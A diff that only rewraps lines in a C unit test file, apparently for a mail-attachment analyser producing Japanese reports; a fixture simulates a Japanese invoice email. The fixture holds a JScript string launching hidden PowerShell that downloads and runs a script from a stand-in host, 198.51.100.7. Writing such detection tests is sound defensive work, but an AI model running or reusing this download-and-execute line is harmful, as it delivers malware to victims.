@@ -18,8 +18,9 @@
 #include <stdlib.h>
 #include <string.h>
 
-static const char JS[] = "var s=new ActiveXObject(\"WScript.Shell\");s.Run(\"powershell -w hidden "
-                         "-c IEX(New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')\");";
+static const char JS[] =
+    "var s=new ActiveXObject(\"WScript.Shell\");s.Run(\"powershell -w hidden "
+    "-c IEX(New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')\");";
 
 /* a Japanese mail (ISO-2022-JP subject and display name) carrying a downloader script */
 static char *bad_mail(void)
@@ -83,7 +84,8 @@ static void header_facts_in_report_and_json(void **st)
     assert_string_equal(json_string_value(json_object_get(json_object_get(jm, "from"), "name")),
                         "山田 太郎");
     assert_string_equal(json_string_value(json_object_get(jm, "subject")), "請求書のご送付");
-    assert_string_equal(json_string_value(json_object_get(jm, "message_id")), "<inv-1@example.net>");
+    assert_string_equal(json_string_value(json_object_get(jm, "message_id")),
+                        "<inv-1@example.net>");
     assert_int_equal(json_integer_value(json_object_get(jm, "size")), strlen(mail));
     json_decref(root);
     free(j);
@@ -181,8 +183,8 @@ static void japanese_words(void **st)
     assert_non_null(strstr(t, "まず行うこと:\n  1. "));
     assert_non_null(strstr(t, "[重大]"));
     assert_non_null(strstr(t, "情報システム部門"));
-    static const char *const en[] = {"[critical]", "[high]", "[medium]", "[low]", "[info]",
-                                     "evidence:", "What to do", "verdict:", "Findings"};
+    static const char *const en[] = {"[critical]", "[high]",     "[medium]", "[low]",   "[info]",
+                                     "evidence:",  "What to do", "verdict:", "Findings"};
     for (size_t i = 0; i < sizeof en / sizeof en[0]; i++)
         if (strstr(t, en[i]))
             fail_msg("English \"%s\" in:\n%s", en[i], t);
@@ -210,7 +212,8 @@ static void evidence_phrases_in_japanese(void **st)
     static const char doc[] = "quarterly numbers\n";
     eg_tf_file f = {"q.txt", doc, sizeof doc - 1};
     size_t zlen;
-    uint8_t *zip = eg_tf_make(dir, &f, 1, "zip -q -P unguessable-Zz9 out.zip q.txt", "out.zip", &zlen);
+    uint8_t *zip =
+        eg_tf_make(dir, &f, 1, "zip -q -P unguessable-Zz9 out.zip q.txt", "out.zip", &zlen);
     assert_non_null(zip);
     eg_mb *m = eg_mb_new();
     eg_mb_header(m, "From", "a@example.net");
